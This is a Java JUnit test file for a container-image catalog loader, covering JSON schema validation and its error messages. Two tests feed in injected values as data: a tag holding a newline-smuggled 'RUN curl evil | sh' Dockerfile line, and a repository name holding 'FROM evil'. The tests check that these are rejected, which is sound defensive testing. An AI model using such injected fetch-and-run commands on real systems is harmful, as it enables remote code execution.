package dev.dhipicker.catalog;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

import java.io.ByteArrayInputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

class CatalogLoaderTest {

    static final String HEADER = "{\"format\":1,\"info\":{\"source\":\"s\",\"upstreamCommit\":\"c\",\"snapshotDate\":\"2026-08-22\",\"generator\":\"g\"},";

    static String image(String tagsJson) {
        return "{\"file\":\"debian-13/1.yaml\",\"variant\":\"runtime\",\"distro\":\"debian\",\"distroVersion\":\"13\","
                + "\"libc\":\"glibc\",\"version\":\"1.2.3\",\"tags\":" + tagsJson
                + ",\"uid\":65532,\"packageCount\":3,\"shell\":false,\"packageManager\":false}";
    }

    static String catalog(String imagesJson) {
        return HEADER + "\"repositories\":[{\"name\":\"alpha\",\"displayName\":\"Alpha\",\"images\":[" + imagesJson
                + "]}],\"charts\":[]}";
    }

    private Catalog load(String json) throws CatalogException {
        return new CatalogLoader().load("test.json", new ByteArrayInputStream(json.getBytes(StandardCharsets.UTF_8)));
    }

    @Test
    void loadsAMinimalCatalog() throws Exception {
        Catalog c = load(catalog(image("[\"1\",\"1.2.3-debian13\"]")));
        assertThat(c.repositories()).hasSize(1);
        assertThat(c.definitionByTag("alpha", "1.2.3-debian13")).isPresent();
        assertThat(c.pinnedTag(c.definitions("alpha").get(0))).isEqualTo("1.2.3-debian13");
    }

    @Test
    void jsonNullIsAbsentForAnOptionalFieldAndMissingForARequiredOne() throws Exception {
        Catalog c = load(catalog(image("[\"1\"]").replace("\"file\"", "\"title\":null,\"file\"")));
        assertThat(c.definitions("alpha").get(0).title()).isNull();
        assertThatThrownBy(() -> load(catalog(image("[\"1\"]").replace("\"version\":\"1.2.3\"", "\"version\":null"))))
                .isInstanceOf(CatalogException.class)
                .hasMessageContaining("/repositories/0/images/0").hasMessageContaining("missing required field 'version'");
        assertThatThrownBy(() -> load(catalog(image("[\"1\", null]"))))
                .isInstanceOf(CatalogException.class)
                .hasMessageContaining("/repositories/0/images/0/tags/1").hasMessageContaining("expected a string");
        assertThatThrownBy(() -> load(catalog(image("[\"1\"]").replace("\"packageCount\":3", "\"packageCount\":3000000000"))))
                .isInstanceOf(CatalogException.class)
                .hasMessageContaining("/repositories/0/images/0/packageCount").hasMessageContaining("expected an integer");
    }

    /** json | expected location | expected reason fragment */
    @ParameterizedTest(name = "{2}")
    @CsvSource(delimiter = '|', value = {
            "{\"format\":1,                                | line 1, column    | malformed JSON",
            "[]                                            | /                 | expected an object",
            "{\"format\":2}                                | /format           | unsupported catalog format",
    })
    void rejectsBrokenDocuments(String json, String location, String reason) {
        assertThatThrownBy(() -> load(json)).isInstanceOf(CatalogException.class)
                .hasMessageStartingWith("test.json: ")
                .hasMessageContaining(location).hasMessageContaining(reason);
    }

    @Test
    void rejectsDuplicateTagsNamingBothPlaces() {
        String json = catalog(image("[\"1\"]") + "," + image("[\"2\",\"1\"]"));
        assertThatThrownBy(() -> load(json))
                .hasMessage("test.json: /repositories/0/images/1/tags/1: duplicate tag 'alpha:1' (also at /repositories/0/images/0/tags/0)");
    }

    @Test
    void rejectsATagThatIsNotAValidReference() {
        assertThatThrownBy(() -> load(catalog(image("[\"1\\nRUN curl evil | sh\"]"))))
                .hasMessageStartingWith("test.json: /repositories/0/images/0/tags/0: contains the control character \\n");
        assertThatThrownBy(() -> load(catalog(image("[\"1 latest\"]"))))
                .hasMessageStartingWith("test.json: /repositories/0/images/0/tags/0: tag is not a valid reference");
        assertThatThrownBy(() -> load(catalog(image("[\"1 latest\"]"))))
                .hasMessageContaining("/repositories/0/images/0/tags/0");
    }

    @Test
    void rejectsSchemaViolationsWithTheirPointer() {
        assertThatThrownBy(() -> load(catalog(image("[\"1\"]").replace("\"runtime\"", "\"sidecar\""))))
                .hasMessage("test.json: /repositories/0/images/0/variant: unknown variant 'sidecar' (expected runtime or dev)");
        assertThatThrownBy(() -> load(catalog(image("[\"1\"]").replace(",\"shell\":false", ""))))
                .hasMessage("test.json: /repositories/0/images/0: missing required field 'shell'");
        assertThatThrownBy(() -> load(catalog(image("[\"1\"]").replace("\"packageCount\":3", "\"packageCount\":\"3\""))))
                .hasMessage("test.json: /repositories/0/images/0/packageCount: expected an integer");
        assertThatThrownBy(() -> load(catalog(image("[\"1\"]").replace("\"file\"", "\"extra\":1,\"file\""))))
                .hasMessage("test.json: /repositories/0/images/0/extra: unknown field 'extra'");
        assertThatThrownBy(() -> load(catalog(image("[]"))))
                .hasMessage("test.json: /repositories/0/images/0/tags: a definition needs at least one tag");
    }

    @Test
    void rejectsAHostileRepositoryName() {
        String json = catalog(image("[\"1\"]")).replace("\"name\":\"alpha\"", "\"name\":\"alpha\\nFROM evil\"");
        assertThatThrownBy(() -> load(json)).hasMessageContaining("/repositories/0/name")
                .hasMessageContaining("control character");
        String spaced = catalog(image("[\"1\"]")).replace("\"name\":\"alpha\"", "\"name\":\"alpha FROM evil\"");
        assertThatThrownBy(() -> load(spaced)).hasMessageContaining("/repositories/0/name")
                .hasMessageContaining("not valid");
    }

    @Test
    void rejectsDuplicateKeys() {
        String json = catalog(image("[\"1\"]")).replace("\"format\":1,", "\"format\":1,\"format\":1,");
        assertThatThrownBy(() -> load(json)).hasMessageContaining("malformed JSON").hasMessageContaining("format");
    }

    @Test
    void namesAMissingFile(@TempDir Path dir) {
        Path missing = dir.resolve("nope.json");
        assertThatThrownBy(() -> new CatalogLoader().load(missing)).hasMessage(missing + ": file not found");
    }

    @Test
    void loadsAFileFromDisk(@TempDir Path dir) throws Exception {
        Path f = dir.resolve("c.json");
        Files.writeString(f, catalog(image("[\"1\"]")));
        assertThat(new CatalogLoader().load(f).definitionCount()).isEqualTo(1);
    }
}
